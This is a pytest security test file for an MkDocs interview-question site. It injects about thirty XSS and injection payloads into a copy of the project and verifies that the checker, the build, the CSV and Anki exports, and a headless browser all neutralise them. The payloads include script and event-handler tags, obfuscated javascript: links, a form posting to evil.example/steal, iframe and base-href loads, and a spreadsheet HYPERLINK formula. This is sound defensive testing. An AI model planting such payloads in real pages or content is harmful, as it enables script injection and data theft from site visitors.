"""Malicious contributions, each tried three ways (issue: nothing a contribution writes can run script).

Every payload goes into its own place in one copy of the project: page bodies, front-matter strings,
data/tags.yml, data/glossary.yml, the sources manifest, a topic index page and a top-level page.
1. The checker rejects each one with its rule ID at the payload's line.
2. The site is built with the checker skipped; every built page, the CSV and the Anki deck are parsed
   with an HTML parser and must hold no live payload.
3. Chromium loads the affected pages: no dialog opens and no request leaves 127.0.0.1.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml
from conftest import CHROMIUM, ROOT, mkdocs_build, serve_site, site_path


@dataclass(frozen=True)
class Payload:
    pid: str
    kind: str  # body | title | aliases | data
    target: str  # docs-relative page (body, title, aliases) or project-relative file (data)
    text: str  # what is written; for data, "old => new" replaces one substring
    rule: str
    token: str  # the checker must report the line that contains this token
    pages: tuple[str, ...] = ()  # extra site pages (URL paths) that show the content


P = Payload
PAYLOADS = [
    P("script-tag", "body", "generation/mitigate-repetition.md", "<script>alert('script-tag')</script>", "HTML-UNSAFE", "<script"),
    P("img-onerror-two-lines", "body", "generation/model-hallucination.md", "<img src=x\nonerror=\"alert('img')\">", "HTML-UNSAFE", "onerror"),
    P("markdown-js-link", "body", "generation/what-is-repetition.md", "[read more](javascript:alert('md-link'))", "HTML-UNSAFE", "javascript"),
    P("entity-colon-scheme", "body", "generation/why-repetition-happens.md", "[read more](javascript&colon;alert('entity'))", "HTML-UNSAFE", "javascript"),
    P("numeric-entity-scheme", "body", "evaluation/domain-evaluation-set.md", '<a href="&#106;avascript:alert(\'num\')">more</a>', "HTML-UNSAFE", "&#106;"),
    P("tab-in-scheme", "body", "evaluation/how-to-evaluate-llms.md", '<a href="jav&#x09;ascript:alert(\'tab\')">more</a>', "HTML-UNSAFE", "jav&#x09;"),
    P("attr-list-paragraph", "body", "evaluation/llm-evaluation-methods.md", "A paragraph.\n{: onclick=\"alert('attr')\" }", "HTML-UNSAFE", "onclick"),
    P("attr-list-heading", "body", "evaluation/llm-evaluation-metrics.md", "### Heading { #injected onmouseover=\"alert('heading')\" }", "HTML-UNSAFE", "onmouseover"),
    P("base-href", "body", "evaluation/llm-evaluation-tools.md", '<base href="http://evil.example/">', "HTML-UNSAFE", "<base"),
    P("meta-refresh", "body", "evaluation/measure-llm-capability.md", '<meta http-equiv="refresh" content="0;url=http://evil.example/">', "HTML-UNSAFE", "<meta"),
    P("form", "body", "fundamentals/bert-vs-llm-choice.md", '<form action="http://evil.example/steal"><input name="q"><button>Go</button></form>', "HTML-UNSAFE", "<form"),
    P("object", "body", "fundamentals/domain-specific-llms.md", '<object data="http://evil.example/x.swf"></object>', "HTML-UNSAFE", "<object"),
    P("embed", "body", "fundamentals/multimodal-models-in-practice.md", '<embed src="http://evil.example/x.swf">', "HTML-UNSAFE", "<embed"),
    P("link-stylesheet", "body", "fundamentals/open-source-model-families.md", '<link rel="stylesheet" href="http://evil.example/x.css">', "HTML-UNSAFE", "<link"),
    P("iframe", "body", "fundamentals/popular-open-source-llms.md", '<iframe src="http://evil.example/"></iframe>', "HTML-UNSAFE", "<iframe"),
    P("svg-onload", "body", "fundamentals/what-is-an-llm.md", "<svg onload=\"alert('svg')\"><circle r=\"1\"/></svg>", "HTML-UNSAFE", "<svg"),
    P("style-element", "body", "fundamentals/why-emergent-abilities.md", "<style>body { display: none }</style>", "HTML-UNSAFE", "<style"),
    P("remote-image", "body", "pretraining/avoid-forgetting-general-ability.md", '<img src="http://evil.example/pixel.png" alt="x">', "HTML-UNSAFE", "src="),
    P("data-url-link", "body", "pretraining/continued-pretraining-data.md", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "HTML-UNSAFE", "data:"),
    P("details-ontoggle", "body", "pretraining/continued-pretraining-more-knowledge.md", "<details open ontoggle=\"alert('toggle')\"><summary>x</summary>y</details>", "HTML-UNSAFE", "ontoggle"),
    P("fence-trick", "body", "pretraining/handle-long-text.md", "~~~\n```\n~~~\n<img src=x onerror=\"alert('fence')\">", "HTML-UNSAFE", "onerror"),
    P("dom-clobber-config", "body", "pretraining/llama-input-length.md", '<div id="__config">{"base": "http://evil.example/"}</div>', "HTML-UNSAFE", "<div"),
    P("title-break-out", "title", "sft/chat-or-base-model.md", "\"><svg onload=alert('title')>", "FM-MARKUP", "title:", ("sft/", "self-test/", "tags/", "errata/")),
    P("title-entity-encoded", "title", "sft/domain-finetuning-data-format.md", "&lt;/title&gt;&lt;script&gt;alert('entity-title')&lt;/script&gt;", "FM-MARKUP", "title:", ("sft/",)),
    P("title-spreadsheet-formula", "title", "sft/finetuning-strategies.md", "=HYPERLINK(\"http://evil.example\",\"click\")", "FM-MARKUP", "title:", ("sft/",)),
    P("alias-img", "aliases", "sft/what-is-finetuning.md", "<img src=x onerror=alert('alias')>", "FM-MARKUP", "aliases:"),
    P("tag-label", "data", "data/tags.yml", "lora: {zh: LoRA, => lora: {zh: \"<img src=x onerror=alert('tag')>\",", "DATA-MARKUP", "lora:", ("tags/",)),
    P("glossary-definition", "data", "data/glossary.yml", "    zh: 大模型生成时反复输出 =>     zh: <script>alert('gloss')</script>大模型生成时反复输出", "DATA-MARKUP", "alert('gloss')", ("glossary/", "generation/what-is-repetition/")),
    P("glossary-alias-link", "data", "data/glossary.yml", "aliases: [复读机问题, => aliases: [\"[x](javascript:alert('alias'))\", 复读机问题,", "DATA-MARKUP", "alert('alias')", ("glossary/",)),
    P("credit-author", "data", "sources/manifest.yml", "  author: null => \n  author: \"<img src=x onerror=alert('credit')>\"", "DATA-MARKUP", "alert('credit')", ("sources/000/",)),
    P("topic-index-page", "body", "sft/index.md", "<script>alert('topic-index')</script>", "HTML-UNSAFE", "<script", ("sft/",)),
    P("top-level-page", "body", "downloads.md", "<iframe src=\"http://evil.example/\"></iframe>", "HTML-UNSAFE", "<iframe", ("downloads/",)),
]


def _page_url(relative: str) -> str:
    """docs-relative Markdown path -> site URL path (zh)."""
    stem = relative.removesuffix(".md")
    if stem.endswith("/index"):
        return stem.removesuffix("index")
    return stem + "/"


def _inject(root: Path, payload: Payload) -> None:
    if payload.kind == "data":
        path = root / payload.target
        old, new = payload.text.split(" => ", 1)
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{payload.pid}: {old!r} not in {payload.target}"
        text = text.replace(old, new.lstrip("\n"), 1)
        path.write_text(text, encoding="utf-8")
        return
    path = root / "docs" / payload.target
    text = path.read_text(encoding="utf-8")
    if payload.kind == "body":
        path.write_text(text.rstrip("\n") + "\n\n" + payload.text + "\n", encoding="utf-8")
    elif payload.kind == "title":
        path.write_text(re.sub(r"(?m)^title: .*$", "title: " + _yaml_quoted(payload.text), text, count=1), encoding="utf-8")
    elif payload.kind == "aliases":
        path.write_text(re.sub(r"(?m)^(title: .*)$", r"\1\naliases:\n- " + _yaml_quoted(payload.text).replace("\\", "\\\\"), text, count=1), encoding="utf-8")


def _yaml_quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _line_of(root: Path, payload: Payload) -> int:
    path = root / (payload.target if payload.kind == "data" else f"docs/{payload.target}")
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        if payload.token in line:
            return number
    raise AssertionError(f"{payload.pid}: token {payload.token!r} not found")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("attacked")
    for name in ("mkdocs.yml", "docs", "overrides", "hooks", "data", "sources"):
        source = ROOT / name
        (shutil.copytree if source.is_dir() else shutil.copyfile)(source, root / name)
    for payload in PAYLOADS:
        _inject(root, payload)
    return root


def test_there_are_enough_payloads_in_every_place():
    kinds = {p.kind for p in PAYLOADS}
    assert len(PAYLOADS) >= 25 and kinds == {"body", "title", "aliases", "data"}
    assert {p.target for p in PAYLOADS} >= {"data/tags.yml", "data/glossary.yml", "sft/index.md", "downloads.md"}


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.pid for p in PAYLOADS])
def test_checker_rejects_each_payload_at_its_line(attacked, payload, monkeypatch):
    from llmqa import checks, content

    monkeypatch.setattr(checks, "DATA_DIR", attacked / "data")
    monkeypatch.setattr(content, "DATA_DIR", attacked / "data")
    content._data.cache_clear()
    problems = checks.check(attacked / "docs") + checks.data_problems(attacked / "data", attacked / "sources" / "manifest.yml")
    content._data.cache_clear()
    where = payload.target if payload.kind == "data" else f"docs/{payload.target}"
    line = _line_of(attacked, payload)
    found = [p for p in problems if p.path.endswith(where) and p.rule == payload.rule]
    assert any(p.line == line for p in found), (payload.pid, line, [str(p) for p in found])


def _published_host() -> str:
    site_url = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)["site_url"]
    return urlparse(site_url[-1] if isinstance(site_url, list) else site_url).hostname


SITE_HOSTS = {"127.0.0.1", _published_host()}  # exports link to the published site
MATERIAL_FORMS = ("md-search__form", "md-header__option")  # the theme's own search box and palette switch
LOADING_LINKS = {"stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest"}


class _Live(HTMLParser):
    """Everything in a built page that could run script, load from another host or redirect."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
    NEVER = {"base", "object", "embed", "iframe", "frame", "applet"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.article_depth = 0
        self.head = True

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "body":
            self.head = False
        if tag == "article":
            self.article_depth += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in self.URL_ATTRIBUTES and value:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                theme_noop = scheme == "javascript:void(0)" and not self.article_depth  # Material's own buttons
                if scheme.startswith(("javascript:", "vbscript:", "data:text")) and not theme_noop:
                    self.found.append(f"<{tag} {name}={value[:30]}>")
                host = urlparse(value.strip()).hostname
                loads = tag in ("img", "script", "iframe", "audio", "video", "source") or (tag == "link" and LOADING_LINKS & set(attributes.get("rel", "").split()))
                if loads and name in ("src", "href") and host and host not in SITE_HOSTS:
                    self.found.append(f"<{tag} {name}> loads {host}")
        if tag in self.NEVER:
            self.found.append(f"<{tag}>")
        theme_form = any(c in attributes.get("class", "") for c in MATERIAL_FORMS) and not self.article_depth
        own_search = "kb-not-found__search" in attributes.get("class", "") and attributes.get("action", "").startswith("/")  # the 404 page
        if tag == "form" and not (theme_form or own_search):
            self.found.append("<form>")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")  # allowed only on the redirect stubs of mkdocs.yml (see below)
        if tag in ("script", "style", "link") and self.article_depth:
            self.found.append(f"<{tag}> in the page content")
        if tag == "link" and not self.head:
            self.found.append("<link> in the body")
        if tag == "div" and attributes.get("id", "").startswith("__") and self.article_depth:
            self.found.append(f"<div id={attributes['id']}> shadows Material's element")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "article":
            self.article_depth -= 1


def live_payloads(html: str) -> list[str]:
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.fixture(scope="module")
def attacked_site(attacked) -> Path:
    # The build alone, without the checker; not --strict, which would stop at MkDocs' own warning
    # about the javascript&colon; link before the sanitizer's work could be inspected.
    result = mkdocs_build(attacked / "mkdocs.yml", attacked / "site", strict=False)
    assert result.returncode == 0, "\n".join(line for line in result.stderr.splitlines() if "INFO" not in line)[-3000:]
    return attacked / "site"


def test_live_payload_detector_sees_live_html():
    assert live_payloads('<article><img src=x onerror="alert(1)"><a href="java\tscript:x">a</a><script>1</script></article>') == [
        "<img onerror>", "<a href=java\tscript:x>", "<script> in the page content"]


def _redirect_stubs(root: Path) -> dict[str, str]:
    """The site's own redirect pages (old URLs of moved pages, from mkdocs.yml) and where they point."""
    from llmqa.content import LANGUAGES
    from llmqa.render import language_redirects

    config = yaml.load((root / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    maps = next(p["redirects"]["redirect_maps"] for p in config["plugins"] if isinstance(p, dict) and "redirects" in p)
    return {page: url for code in LANGUAGES for page, url in language_redirects(maps, "" if code == "zh" else code).items()}


def test_build_leaves_no_live_payload_in_any_page(attacked_site):
    pages = sorted(attacked_site.rglob("*.html"))
    assert len(pages) > 400
    stubs = _redirect_stubs(attacked_site.parent)
    found = {}
    for page in pages:
        relative, html = page.relative_to(attacked_site).as_posix(), page.read_text(encoding="utf-8")
        live = live_payloads(html)
        if relative in stubs and f'content="0; url={stubs[relative]}"' in html:
            live.remove("<meta refresh>")  # a moved page's old URL, declared in mkdocs.yml
        if live:
            found[relative] = live
    assert found == {}
    assert len(stubs) >= 2 * 11 and all((attacked_site / page).exists() for page in stubs)


def test_every_page_has_a_content_security_policy(attacked_site):
    for relative in ("index.html", "sft/chat-or-base-model/index.html", "en/sft/index.html", "404.html", "self-test/index.html"):
        html = (attacked_site / relative).read_text(encoding="utf-8")
        policy = re.search(r'<head[^>]*><meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert policy, relative
        assert "object-src 'none'" in policy[1] and "base-uri 'self'" in policy[1] and "'unsafe-inline'" not in policy[1].split("script-src")[1].split(";")[0]


def test_exports_carry_no_live_payload(attacked_site):
    for language in ("zh", "en"):
        prefix = "" if language == "zh" else "en/"
        table = (attacked_site / prefix / "downloads" / f"llm-interview-questions-{language}.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(table)))
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row) or language == "en"
        with zipfile.ZipFile(attacked_site / prefix / "downloads" / f"llm-interview-questions-{language}.apkg") as deck, deck.open("collection.anki2") as handle:
            database = attacked_site.parent / f"collection-{language}.anki2"
            database.write_bytes(handle.read())
        with sqlite3.connect(database) as connection:
            fields = [row[0] for row in connection.execute("select flds from notes")]
        assert len(fields) > 40
        live = [found for field in fields for found in live_payloads(f"<article>{field}</article>")]
        assert live == []


def _affected_urls() -> list[str]:
    urls = {"", "self-test/", "tags/", "glossary/", "errata/"}
    for payload in PAYLOADS:
        if payload.kind != "data":
            urls.add(_page_url(payload.target))
        urls.update(payload.pages)
    return sorted(urls)


@pytest.mark.browser
def test_browser_runs_no_payload_and_stays_on_the_site(attacked_site, browser):
    if not Path(CHROMIUM).exists():
        pytest.skip("no Chromium")
    server, base = serve_site(attacked_site, site_path())
    context = browser.new_context()
    page = context.new_page()
    dialogs, outside = [], []
    page.on("dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: urlparse(request.url).hostname not in ("127.0.0.1", None) and outside.append(f"{page.url} -> {request.url}"))
    try:
        for url in _affected_urls():
            page.goto(base + url)
            page.wait_for_timeout(150)
            page.mouse.move(200, 300)  # mouse handlers, had any survived
        assert dialogs == [] and outside == []
    finally:
        context.close()
        server.shutdown()
